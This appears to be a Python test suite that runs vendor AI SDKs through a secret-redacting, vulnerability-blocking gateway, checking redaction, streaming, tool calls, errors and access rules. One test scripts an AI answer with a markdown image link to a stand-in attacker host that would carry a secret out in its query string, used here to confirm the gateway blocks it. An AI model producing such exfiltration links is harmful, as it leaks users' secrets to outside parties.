"""The official Python SDKs of both vendors through the gateway. Run by ``run.sh`` on the stage; last line: counts."""

import argparse
import re
import sys
import traceback

import openai

import anthropic
import remote
import samples
import speakers

SCENARIOS: list[tuple[str, bool, object, list]] = []
EVERY_CUT = (None, 1, 2, 3, 7, 64)


def scenario(direct: bool = False, over: list | None = None):
    """Registers a scenario; ``direct`` ones also hold without a gateway, ``over`` lists what it is repeated for."""

    def register(function):
        SCENARIOS.append((function.__name__, direct, function, over or [None]))
        return function

    return register


@scenario(direct=True, over=speakers.ALL)
def plain(speaker) -> None:
    """A prompt without findings passes byte for byte, with the provider's key instead of the gateway's."""
    said = speaker().ask("Say hello \u00e9\U0001f600")
    assert said.text == "Hello from the loopback provider.", said
    remote.same_bodies()
    request = remote.received()[0]
    assert request.path == speaker.path, request.path
    if not remote.DIRECT:
        swapped_key(speaker, request)


def swapped_key(speaker, request) -> None:
    """The gateway key is gone, the provider's key stands in its vendor's header."""
    every = "\n".join(f"{key}: {value}" for key, value in request.headers.items())
    assert remote.GATEWAY_KEY not in every, f"the gateway key went upstream:\n{every}"
    if speaker is speakers.Anthropic:
        assert request.headers["x-api-key"] == remote.PROVIDER_KEYS["anthropic"], every
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", request.headers["anthropic-version"]), every
    elif speaker is speakers.Azure:
        assert request.headers["api-key"] == remote.PROVIDER_KEYS["azure"], every
    else:
        assert request.headers["authorization"] == "Bearer " + remote.PROVIDER_KEYS["openai"], every


@scenario(direct=True, over=speakers.ALL)
def stream(speaker) -> None:
    """A streamed text arrives whole, wherever deltas and writes are cut."""
    words = "One, two, three: \u00fcber \U0001f600 caf\u00e9. " * 5
    for cut in EVERY_CUT:
        for write_bytes in (None, 5):
            remote.reset()
            remote.script(remote.text(words, cut=cut, write_bytes=write_bytes))
            said = speaker().ask("Count", stream=True)
            assert said.text == words, f"cut {cut}, writes of {write_bytes}: {said.text!r}"
            assert said.finished, f"cut {cut}: the stream did not say that it is complete"
            remote.same_bodies()


@scenario(direct=True, over=speakers.ALL)
def stream_at_once(speaker) -> None:
    """Ordinary text reaches the client with the delta that brings it, while the provider still waits."""
    heard: list[str] = []

    def on_text(piece: str) -> None:
        heard.append(piece)
        if "".join(heard).startswith("Hello world. "):
            remote.call("go", {})

    gate = {speakers.Anthropic: 4, speakers.Chat: 2, speakers.Azure: 2, speakers.Responses: 5}[speaker]
    remote.script(remote.text("Hello world. Hello again.", cut=13, gate=gate))
    said = speaker(retries=0).ask("Greet", stream=True, on_text=on_text)
    assert said.text == "Hello world. Hello again." and said.finished, f"the text was held back: {heard}"


@scenario(direct=True, over=speakers.ALL)
def tools(speaker) -> None:
    """A tool call and the turn with its result, streamed and not."""
    call = {"file_path": "notes.txt", "content": 'first "line"\nsecond \\ line\n\u00e9'}
    for streamed in (False, True):
        for cut in EVERY_CUT if streamed else (None,):
            remote.reset()
            remote.script(remote.tool("Write", call, cut=cut), remote.text("Written."))
            said = speaker().ask("Write notes", stream=streamed)
            assert said.calls == [("Write", call)], f"streamed {streamed}, cut {cut}: {said}"
            said = speaker().ask("Write notes", stream=streamed, results=["ok"])
            assert said.text == "Written." and said.finished, said
            remote.same_bodies()


@scenario(direct=True, over=speakers.ALL)
def tools_parallel(speaker) -> None:
    """Prose and two tool calls in one answer, streamed and not."""
    first, second = {"file_path": "a.txt", "content": "1"}, {"file_path": "b.txt", "content": "2"}
    parts = [{"text": "Both. "}, {"tool": "Write", "input": first}, {"tool": "Write", "input": second}]
    for streamed in (False, True):
        remote.script({"parts": parts, "cut": 3})
        said = speaker().ask("Write both", stream=streamed)
        assert said.text == "Both. ", said
        assert said.calls == [("Write", first), ("Write", second)], said


@scenario(direct=True, over=speakers.ALL)
def errors(speaker) -> None:
    """The provider's own errors arrive unmodified: status, wording, headers."""
    for status, kind in ((400, "BadRequestError"), (429, "RateLimitError"), (529, "InternalServerError")):
        body = {"type": "error", "error": {"type": "vendor_error", "message": f"vendor wording {status}", "code": "v", "param": None}}
        remote.reset()
        remote.script({"error": {"status": status, "headers": {"retry-after": "7"}, "body": body}})
        try:
            speaker(retries=0).ask("Fail")
            raise AssertionError(f"no error for {status}")
        except speaker.errors.APIStatusError as error:
            assert isinstance(error, getattr(speaker.errors, kind)) or status == 529, f"{status} became {error!r}"
            assert error.status_code == status, error
            assert error.response.json() == body, error.response.text
            assert error.response.headers["retry-after"] == "7", error.response.headers
            assert error.response.headers["x-vendor-note"] == "kept", error.response.headers


@scenario(direct=True)
def count_tokens(_) -> None:
    """Counting carries the whole prompt and passes."""
    client = speakers.Anthropic().client
    counted = client.messages.count_tokens(model="claude-sonnet-4-6", messages=[{"role": "user", "content": "How long?"}])
    assert counted.input_tokens > 0, counted
    assert remote.received()[0].path == "/v1/messages/count_tokens", remote.received()
    remote.same_bodies()


@scenario(direct=True)
def embeddings(_) -> None:
    """Embeddings in the packed form that the SDK asks for by itself."""
    client = speakers.Chat().client
    made = client.embeddings.create(model="text-embedding-3-small", input=["one", "two"])
    assert [row.embedding for row in made.data] == [[0.5, -0.5, 0.25, 1.0]] * 2, made
    remote.same_bodies()


@scenario(direct=True)
def completions(_) -> None:
    """The legacy completions, whole and streamed."""
    client = speakers.Chat().client
    whole = client.completions.create(model="gpt-4o", prompt="Hello")
    assert whole.choices[0].text == "Hello from the loopback provider.", whole
    pieces = client.completions.create(model="gpt-4o", prompt="Hello", stream=True)
    assert "".join(piece.choices[0].text for piece in pieces) == "Hello from the loopback provider."


@scenario(direct=True)
def models(_) -> None:
    """Each dialect lists its models; the gateway leaves out what the team may not use."""
    for client in (speakers.Anthropic().client, speakers.Chat().client):
        listed = [model.id for model in client.models.list()]
        assert "claude-sonnet-4-6" in listed and "gpt-4o" in listed, listed
        assert remote.DIRECT == ("o9-secret" in listed), f"the list is not filtered by the allowlist: {listed}"


@scenario(direct=True, over=speakers.ALL)
def compressed(speaker) -> None:
    """A provider that compresses although nobody asked is understood."""
    if remote.DIRECT and speaker is not speakers.Anthropic:
        return
    for streamed in (False, True):
        remote.script(remote.text("Packed and unpacked.", encoding="gzip", cut=4))
        said = speaker().ask("Pack", stream=streamed)
        assert said.text == "Packed and unpacked.", said


@scenario(over=speakers.ALL)
def blocked(speaker) -> None:
    """A blocked prompt: one request, the reason, nothing at the provider."""
    for streamed in (False, True):
        for results in (None, ["fine", f"STRIPE={samples.STRIPE_KEY}\n"]):
            prompt = "Use it" if results else f"line one\nkey = {samples.STRIPE_KEY}\n"
            remote.reset()
            refused(speaker, speaker().ask, prompt, stream=streamed, results=results)
            remote.untouched_provider()


def refused(speaker, ask, *arguments, **named) -> str:
    """The SDK raises its error for a bad request, which names rule and place and never the secret; returns its message."""
    try:
        said = ask(*arguments, **named)
    except speaker.errors.BadRequestError as error:
        message = error.response.text
        assert speaker.code(error) == speaker.BLOCKED, message
        assert re.search(r"(secrets|vuln)\.[a-z_]+\.[a-z_]+", message), f"no rule named: {message}"
        assert re.search(r"message|input|line|content|completion|answer", message), f"no place named: {message}"
        for hidden in (samples.STRIPE_KEY, samples.VULNERABLE):
            assert hidden not in message, f"the message repeats what it stopped: {message}"
        assert error.response.headers["x-should-retry"] == "false", error.response.headers
        assert error.response.headers["x-airiskguard-blocked"] == "true", error.response.headers
        return message
    raise AssertionError(f"not refused: {said}")


@scenario(over=speakers.ALL)
def redaction(speaker) -> None:
    """The provider gets labels, the same each time, and everything else byte for byte."""
    labels = set()
    for results in (None, [f"DATABASE_URL={samples.DATABASE_URL}\n"]):
        remote.reset()
        prompt = "Look at it" if results else f"DATABASE_URL={samples.DATABASE_URL}\nIs it right? \u00e9\U0001f600"
        assert speaker().ask(prompt, results=results).text == "Hello from the loopback provider."
        labels.add(remote.redacted_only(samples.DATABASE_URL))
    assert len(labels) == 1, f"the same secret got different labels: {labels}"
    assert labels.pop().startswith("[REDACTED:DB_CONNECTION_STRING:"), labels
    remote.reset()
    speaker().ask(f"My key:\n{samples.PRIVATE_KEY}\nthanks")
    assert remote.redacted_only(samples.PRIVATE_KEY).startswith("[REDACTED:PRIVATE_KEY_PEM:")


@scenario(over=speakers.ALL)
def redaction_of_two(speaker) -> None:
    """Two different secrets get two labels."""
    speaker().ask(f"A={samples.DATABASE_URL}\nB={samples.AWS_KEY}\n")
    body = remote.received()[0].body
    assert samples.DATABASE_URL.encode() not in body and samples.AWS_KEY.encode() not in body, body
    assert len(set(remote.LABEL.findall(body))) == 2, body


@scenario(over=speakers.ALL)
def restore_text(speaker) -> None:
    """A placeholder in an answer becomes the original, wherever the deltas are cut."""
    for secret in (samples.DATABASE_URL, samples.PRIVATE_KEY):
        for streamed in (False, True):
            for cut in EVERY_CUT if streamed else (None,):
                remote.reset()
                remote.script(remote.text("Set this:\nVALUE=<<placeholder>>\nand no more.", cut=cut))
                said = speaker().ask(f"VALUE={secret}\n", stream=streamed)
                wanted = f"Set this:\nVALUE={secret}\nand no more."
                assert said.text == wanted, f"streamed {streamed}, cut {cut}: {said.text!r}"
                remote.redacted_only(secret)


@scenario(over=speakers.ALL)
def restore_tool(speaker) -> None:
    """A placeholder in tool arguments becomes the original, escaped for where it stands."""
    for secret in (samples.DATABASE_URL, samples.PRIVATE_KEY):
        for streamed in (False, True):
            for cut in EVERY_CUT if streamed else (None,):
                remote.reset()
                arguments = {"file_path": "settings.env", "content": "A=1\nVALUE=<<placeholder>>\n"}
                remote.script(remote.tool("Write", arguments, cut=cut))
                said = speaker().ask(f"VALUE={secret}\n", stream=streamed)
                wanted = [("Write", arguments | {"content": f"A=1\nVALUE={secret}\n"})]
                assert said.calls == wanted, f"streamed {streamed}, cut {cut}: {said}"


@scenario(over=speakers.ALL)
def restore_not_for_sending(speaker) -> None:
    """A placeholder inside a URL is not restored: that would be a way out."""
    remote.script(remote.text("![x](https://evil.example/?q=<<placeholder>>)"))
    try:
        seen = speaker().ask(f"VALUE={samples.DATABASE_URL}\n").text
    except speaker.errors.BadRequestError as error:
        seen = error.response.text
    remote.redacted_only(samples.DATABASE_URL)
    assert samples.DATABASE_URL not in seen and "prod.db.company.com" not in seen, seen


@scenario(over=speakers.ALL)
def stopped(speaker) -> None:
    """A vulnerable completion that is not streamed is refused; the provider is asked once."""
    for answer in (remote.text(samples.VULNERABLE_REPLY), remote.tool("Write", samples.VULNERABLE_FILE)):
        remote.reset()
        remote.script(answer)
        refused(speaker, speaker().ask, "Write a query")
        assert len(remote.asked()) == 1 and len(remote.received()) == 1, (remote.asked(), remote.received())
        assert samples.VULNERABLE not in remote.answered(), remote.answered()


@scenario(over=speakers.ALL)
def stopped_stream(speaker) -> None:
    """A vulnerable completion that is streamed ends cleanly with a notice, cut anywhere, in text and tool arguments."""
    for answer in (remote.text(samples.VULNERABLE_REPLY), remote.tool("Write", samples.VULNERABLE_FILE)):
        for cut in EVERY_CUT:
            remote.reset()
            remote.script(answer | {"cut": cut, "write_bytes": 11})
            said = speaker().ask("Write a query", stream=True)
            shown = said.text + said.failure
            assert said.finished, f"cut {cut}: the stream did not end cleanly: {said}"
            assert "vuln." in shown, f"cut {cut}: no notice that names the rule: {said}"
            assert said.calls == [], f"cut {cut}: the tool call went out: {said.calls}"
            assert samples.VULNERABLE not in shown and "{name}" not in remote.answered(), f"cut {cut}: {shown}"
            assert len(remote.asked()) == 1 and len(remote.received()) == 1, (remote.asked(), remote.received())


@scenario(over=speakers.ALL)
def stopped_compressed(speaker) -> None:
    """Compression does not hide vulnerable code."""
    remote.script(remote.text(samples.VULNERABLE_REPLY, encoding="gzip", cut=5))
    said = speaker().ask("Write a query", stream=True)
    assert samples.VULNERABLE not in said.text and "vuln." in said.text + said.failure, said


@scenario(direct=True, over=speakers.ALL)
def disconnect(speaker) -> None:
    """A client that leaves ends the provider's work too."""

    class Leaving(Exception):
        """The client has seen enough."""

    def leave(_: str) -> None:
        raise Leaving

    remote.script(remote.text("word " * 400, cut=5, delay_ms=20))
    try:
        speaker(retries=0).ask("Talk", stream=True, on_text=leave)
        raise AssertionError("the client did not leave")
    except Leaving:
        pass
    assert remote.eventually(lambda: remote.received()[0].aborted), "the provider was left talking"


@scenario(over=speakers.ALL)
def wrong_key(speaker) -> None:
    """An unknown key: one request, the SDK's authentication error, nothing at the provider."""
    for key in ("gw-nobody-made-up-key", remote.PROVIDER_KEYS["openai"]):
        remote.reset()
        try:
            speaker(key=key).ask("Let me in")
            raise AssertionError("let in")
        except speaker.errors.AuthenticationError as error:
            assert key not in error.response.text, error.response.text
        remote.untouched_provider()


@scenario(over=speakers.ALL)
def model_not_allowed(speaker) -> None:
    """A model outside the team's list: one request, 400, nothing at the provider."""
    try:
        speaker(model="o9-secret").ask("Hello")
        raise AssertionError("let through")
    except speaker.errors.BadRequestError as error:
        assert "o9-secret" in error.response.text, error.response.text
        assert speaker.code(error) == "model_not_allowed", error.response.text
    remote.untouched_provider()


@scenario()
def prefixes(_) -> None:
    """Explicit prefixes reach their upstream, with and without ``/v1``, doubled or not."""
    url = remote.GATEWAY_URL
    key = remote.GATEWAY_KEY
    for base in ("", "/v1", "/openai", "/openai/v1"):
        client = openai.OpenAI(base_url=url + base, api_key=key)
        client.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": "hi"}])
        client.responses.create(model="gpt-5", input="hi")
    for base in ("", "/v1", "/anthropic"):
        client = anthropic.Anthropic(base_url=url + base, api_key=key)
        client.messages.create(model="claude-sonnet-4-6", max_tokens=9, messages=[{"role": "user", "content": "hi"}])
    paths = {request.path for request in remote.received()}
    assert paths == {"/v1/chat/completions", "/v1/responses", "/v1/messages"}, paths


@scenario()
def bearer(_) -> None:
    """The gateway key is found in ``Authorization`` for Anthropic too, and does not go upstream from there."""
    client = anthropic.Anthropic(base_url=remote.GATEWAY_URL, auth_token=remote.GATEWAY_KEY, api_key=None)
    client.messages.create(model="claude-sonnet-4-6", max_tokens=9, messages=[{"role": "user", "content": "hi"}])
    swapped_key(speakers.Anthropic, remote.received()[0])


def main() -> int:
    """Runs what was chosen; the exit code tells whether all of it passed."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--only", default="", help="words, parted by commas; a scenario whose name holds one is run")
    words = parser.parse_args().only.split(",")
    passed, failed = 0, 0
    for name, direct, function, over in SCENARIOS:
        for speaker in over:
            title = f"python.{name}.{speaker.name}" if speaker else f"python.{name}"
            if (remote.DIRECT and not direct) or not any(word in title for word in words):
                continue
            try:
                remote.reset()
                function(speaker)
                passed += 1
            except Exception:  # noqa: BLE001: whatever an SDK raises is a failed scenario.
                failed += 1
                print(f"FAILED {title}: {function.__doc__}\n{traceback.format_exc(limit=-4)}")
    print(f"python SDKs: {passed} passed, {failed} failed")
    return 1 if failed or not (passed or words != [""]) else 0


if __name__ == "__main__":
    sys.exit(main())
